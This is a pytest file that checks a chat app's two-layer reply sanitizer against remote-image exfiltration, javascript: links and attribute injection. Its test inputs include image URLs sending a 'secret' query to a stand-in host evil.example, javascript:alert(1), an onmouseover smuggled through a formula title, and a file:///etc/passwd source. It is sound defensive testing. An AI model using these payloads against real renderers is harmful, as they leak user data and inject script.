"""Each layer of the reply sanitizer holds on its own.

Rendering has two layers: the markdown layer turns images with a remote or odd `src` into
click-only placeholders, and the HTML sanitizer (nh3) drops any `src`/`srcset` that is not an
inline data image. A bug in one layer must not be hidden by the other, so each is tested
alone here, and the whole path with inputs built to slip past a loose URL check.
"""

from __future__ import annotations

import re

import pytest

from app.core import markdown_render as md


def _img_sources(html: str) -> list[str]:
    return re.findall(r"<img\b[^>]*\bsrc=\"([^\"]*)\"", html)


@pytest.mark.parametrize(
    "fragment",
    [
        '<img src="https://evil.example/x.png?q=secret">',
        '<img src="http://127.0.0.1:9/x">',
        '<img src="//evil.example/x.png">',
        '<img src="https://evil.example/?data:image/png;base64,AAAA">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<img src="data:text/html;base64,PGI+">',
    ],
)
def test_html_sanitizer_drops_every_src_that_is_not_an_inline_raster_image(fragment: str) -> None:
    cleaned = md._sanitize(fragment)
    assert _img_sources(cleaned) == []
    assert "evil" not in cleaned and "127.0.0.1" not in cleaned


def test_html_sanitizer_drops_srcset_even_beside_a_safe_src() -> None:
    safe = "data:image/png;base64,iVBORw0KGgo="
    cleaned = md._sanitize(
        f'<img src="{safe}" srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">'
    )
    assert "srcset" not in cleaned
    assert "evil.example" not in cleaned
    assert _img_sources(cleaned) == [safe]  # the inline image itself is kept


def test_html_sanitizer_drops_remote_sources_on_other_tags_and_styles() -> None:
    cleaned = md._sanitize(
        '<p style="background:url(https://evil.example/p)">a</p>'
        '<video src="https://evil.example/v.mp4"></video>'
        '<picture><source srcset="https://evil.example/s.png"></picture>'
        '<link rel="stylesheet" href="https://evil.example/c.css">'
    )
    assert "evil.example" not in cleaned


def test_remote_image_with_a_data_url_in_its_query_stays_a_click_only_placeholder() -> None:
    # A check that looks for "data:image/..." anywhere in the URL (a search, not an
    # anchored match) would let this one load and send the query to the remote host.
    html = md.render_markdown("![x](https://evil.example/?data:image/png;base64,AAAA)")
    assert _img_sources(html) == []
    assert "[image: x]" in html
    assert 'href="https://evil.example/?data:image/png;base64,AAAA"' in html


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/x.png",
        " data:image/png;base64,AAAA#https://evil.example/",
        "DATA:image/png;base64,AAAA\nhttps://evil.example",
        "javascript:alert(1)//data:image/png;base64,AAAA",
    ],
)
def test_markdown_layer_alone_turns_non_inline_images_into_placeholders(url: str) -> None:
    # The markdown layer's own output, before nh3 sees it.
    raw, _ = md._render_md(f"![x]({url})\n")
    assert "evil.example" not in "".join(_img_sources(raw))
    assert all(src.startswith("data:image/") for src in _img_sources(raw))


def test_inline_data_image_survives_both_layers() -> None:
    src = "data:image/png;base64,iVBORw0KGgo="
    assert _img_sources(md.render_markdown(f"![dot]({src})")) == [src]


def test_html_sanitizer_keeps_only_the_windows_own_formula_images() -> None:
    own = "parley-math:0123456789abcdef0123456789abcdef"
    cleaned = md._sanitize(
        f'<img src="{own}">'
        '<img src="parley-math://evil.example/x.png">'
        '<img src="parley-math:0123456789abcdef0123456789abcdef?https://evil.example/">'
        '<img src="parley-math:https://evil.example/x.png">'
        '<img src="PARLEY-MATH:0123456789abcdef0123456789abcdef/../https://evil.example">'
        '<a href="parley-math:0123456789abcdef0123456789abcdef">x</a>'
    )
    assert _img_sources(cleaned) == [own]
    assert "evil.example" not in cleaned
    assert 'href="parley-math' not in cleaned


def test_a_formula_source_cannot_smuggle_markup_through_its_title() -> None:
    from html.parser import HTMLParser

    class Tags(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.seen: list[tuple[str, dict[str, str | None]]] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.seen.append((tag, dict(attrs)))

    html = md.render_markdown(
        'Inline $x" onmouseover="alert(1)$ and $<img src=https://evil.example/>$'
    )
    parser = Tags()
    parser.feed(html)
    assert [tag for tag, _ in parser.seen] == ["p", "span", "span"]
    assert {name for _, attrs in parser.seen for name in attrs} <= {"style", "title"}
    titles = [attrs["title"] for tag, attrs in parser.seen if tag == "span"]
    assert titles == ['$x" onmouseover="alert(1)$', "$<img src=https://evil.example/>$"]
def _hrefs(html: str) -> list[str]:
    return re.findall(r"<a\b[^>]*\bhref=\"([^\"]*)\"", html)


def test_html_sanitizer_alone_keeps_only_links_a_click_may_follow() -> None:
    # nh3 lets data: URLs through for images, so the link check is the filter's own job.
    cleaned = md._sanitize(
        '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>'
        '<a href="parley-copy:x">b</a>'
        '<a href="parley-copy:1/../2">c</a>'
        '<a href="javascript:alert(1)">d</a>'
        '<a href="parley-copy:3">e</a>'
        '<a href="https://example.com/">f</a>'
        '<a href="mailto:someone@example.com">g</a>'
    )
    assert _hrefs(cleaned) == ["parley-copy:3", "https://example.com/",
                               "mailto:someone@example.com"]
    # The text of a dropped link stays readable.
    assert [re.sub(r"<[^>]*>", "", part) for part in cleaned.split("</a>")][:4] == [
        "a", "b", "c", "d"]


def test_html_sanitizer_keeps_allowed_styles_on_links_and_images() -> None:
    src = "data:image/png;base64,iVBORw0KGgo="
    cleaned = md._sanitize(
        '<a href="https://example.com/" style="color: red">x</a>'
        f'<img src="{src}" alt="dot" style="vertical-align: middle">'
    )
    assert 'style="color:red"' in cleaned
    assert 'style="vertical-align:middle"' in cleaned
    assert _img_sources(cleaned) == [src]


@pytest.mark.parametrize(
    "src", ["file:///etc/passwd", "ftp://example.com/x.png", "x.png"]
)
def test_an_image_from_elsewhere_says_where_it_pointed_and_offers_no_click(src: str) -> None:
    html = md.render_markdown(f"![chart]({src})")
    assert f"[image: chart] ({src})" in html
    assert _img_sources(html) == [] and _hrefs(html) == []


def test_an_image_without_a_source_is_a_bare_placeholder() -> None:
    html = md.render_markdown("![chart]()")
    assert "[image: chart]" in html and "()" not in html


def test_a_block_too_long_for_markdown_is_escaped_plain_text() -> None:
    # Past the limit a block is shown as text, never as markup.
    head = '**bold** <img src="https://evil.example/x"> [a](javascript:alert(1))'
    over = head + "a" * (md._MAX_MD_BLOCK + 1 - len(head))
    html = md.render_markdown(over)
    assert "<strong>" not in html and "evil.example" not in _img_sources(html)
    assert "**bold** &lt;img" in html
    at_limit = head + "a" * (md._MAX_MD_BLOCK - len(head))
    assert "<strong>bold</strong>" in md.render_markdown(at_limit)
